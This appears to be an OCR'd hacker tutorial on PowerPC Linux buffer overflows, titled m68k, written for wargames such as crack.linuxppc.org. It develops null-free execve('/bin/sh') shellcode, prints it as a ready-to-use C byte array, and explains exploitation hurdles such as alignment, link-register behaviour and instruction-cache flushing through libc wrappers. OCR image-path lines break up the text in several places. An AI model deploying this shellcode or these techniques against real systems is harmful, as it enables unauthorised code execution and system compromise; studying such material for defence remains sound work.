m68k buffer overflows -=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=- by lamagra ---[ Introduction I looked into linuxppc overflows because: 1) Nobody had ever done it (that i know of) 2) The crack.linuxppc.org game (i like wargames) Before i could get started with my research i needed a box to work on, lockdown (aka bladerhater) gave me access to his linuxppc (Thanks and greets to him). Next i needed some background and architecture information, i found a huge architecture guide with a full instruction set included. Finally i got started with making shellcode. --[ shellcode For the shellcode i used the same technique as the x86 shellcode: jmp - call - pop address - start shell I had to change this a little because a powerpc doesn't like the stack that much. (Would be dumb too, with more than 30 registers). So i started coding my asm program. After 10 min i got myself this working code:
: 7c 00 00 50 subf r0,r0,r0 # r0 = r0 - r0 48 00 00 21 bl 1800404 # call
7c 88 02 a6 mflr r4 # load address 90 9f 00 08 stw r4,8(r31) # store word r4 90 1f00 0c stw r0,12(r31) # store word r0 (== null) 80 7f 00 08 lwz r3,8(r31) # load address of 8(r31) into r3 38 9f 00 08 addi r4,r31,8 # r4 = r31 + 8 38 00 00 0b li r0,11 # r0 = 11 44 00 00 02 sc # systemcall 4b ff ff e5 bl 18003e8 # call
2f 62 69 6e cmpdi cr6,r2,26990 # /bin 2f 73 68 00 cmpdi cr6,r19,26624 # /sh But as you can see it has a lot of null's in it, i really didn't like the null's in the systemcall instruction. After a tip (thanx nuuB), i knew that those null's were reserved bits. They could be changed into something else without trouble. Changes: from -> to subf r0,r0,r0 xor r30,r30 stw r4,8(r31) stw r4,264(r31) stw r0,12(r31) stw r30,268(r31) lwx r4,8(r31) lwz r4,264(r31) addi r4,r31,8 addi r4,r31,264 sc .long 0x44010102 This leaves the first "bl" and the "li" instruction. li: You could write -(the number) into the register and then negate it. So, lis r30,-1 ori r30,r30,65525 (65525 = 65536 - 11) nego r0,r30 bl: There are mutipleways for getting around this, but size does matter (in this situation :-) You could easily add some nops in between to make the jump-address bigger and getting rid of those null's. But that would be taking the easy way out :). After a conversation about my teensyportbinding shellcode, i realized i could use to give my code its own location (when overwrittenwith the same value). Add the code's size to the framepointer (r31) and you have the address of "/bin/sh". newbie note: stack at overflow time: [buffer] ... end note All put together gives: c: 38 9f 01 2d addi r4,r31,301 10: 38 84 fe ff addi r4,r4,-257 14: 7f de f2 78 xor r30,r30,r30 18: 90 81 01 08 stw r4,264(r1) 1c: 93 c1 01 0c stw r30,268(r1) 20: 80 61 01 08 lwz r3,264(r1) 24: 38 81 01 08 addi r4,r1,264 28: 3f c0 ff ff lis r30,-1 2c: 63 de ff f5 ori r30,r30,65525 30: 7c 1e 04 d0 nego r0,r30 34: 44 01 01 02 .long 0x44010102 38: 2f 62 69 6e cmpdi cr6,r2,26990 3c: 2f 73 68 00 cmpdi cr6,r19,26624 */ #define CODESIZE 51 char ppc_code[] = "\x38\x9f\x01\x2d\x38\x84\xfe\xff\x7f\xde\xf2\x78\x90\x81\x01\x08\x93\xc1\x01" "\x0c\x80\x61\x01\x08\x38\x81\x01\x08\x3f\xc0\xff\xff\x63\xde\xff\xf5\x7c\x1e" "\x04\xd0\x44\x01\x01\x02/bin/sh"; Problems: we use the framepointer so the overflow has to be exact. We can't use nops or we would have to know the exact length of them (This would probably be the case since every instruction is 4 bytes, alignment is *really* important). At the end of this file, you'll find an other shellcode (coded by nuuB) which doesn't use the framepointer but is double in size. ---[ Overflow problems Buffer overflows are exploited the same way as on x86,etc. but: *note: every problem will be discussed in detail below. * alignment is more important * functions have to be used inside the vunerable function * the location of the * "dirty" instruction cache has to be cleaned-----[ alignment Every instruction is a multiple of 4 bytes. When we return of a faulty address the code will most likely cause a SIGILL. *note: nop = "\x60\x00\x00\x00". The null's are reserved as well, one could change them into 0x60 (easy to put in). *end note ---[ functions The return address of a function is saved in the link register (lr), when a new function is called it is saved on the stack for later use. If not, the link register is used to return (no overwriting possible). The case of this happening is really small tho. ---[ Where is the damned ??? I've noticed that in some situations the distance between and the top buffer varies. I found a distance of 80 ones, other 40,8. I haven't looked into this because i doesn't really matter. ---[ Instruction cache The biggest problem of them all would be the "dirty" i-cache. The shellcode can't be executed unless the i-cache is cleaned first. There isn't any cleaning code insidethe program we can call/use. Solutions: After a user/kernel/user call the cache is clean. 1) You could insert the shellcode before the overflow, after a syscall the cache would be clean. And it can be executed. 2) Redirect the execution through libc (syscall wrapper) This can be done by using framepointer and intruction pointer atthe same time: instruction pointer = address of wrapper framepointer points to a location with the shellcode address